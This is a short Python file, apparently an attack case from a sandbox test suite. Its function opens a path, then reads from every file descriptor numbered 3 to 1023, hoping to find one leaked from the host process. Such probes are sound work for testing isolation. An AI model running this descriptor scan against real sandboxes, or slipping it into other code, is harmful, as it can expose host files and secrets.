# Every descriptor that may be open is read: one may have been left over from the host.
# after: read
# source: own
import os
def attack(path, **_):
    os.dup2(os.open(path, os.O_RDONLY), 200)
    found = []
    for number in range(3, 1024):
        try:
            found.append(os.pread(number, 100, 0).decode(errors="replace"))
        except OSError:
            continue
    return {"text": "".join(found)}
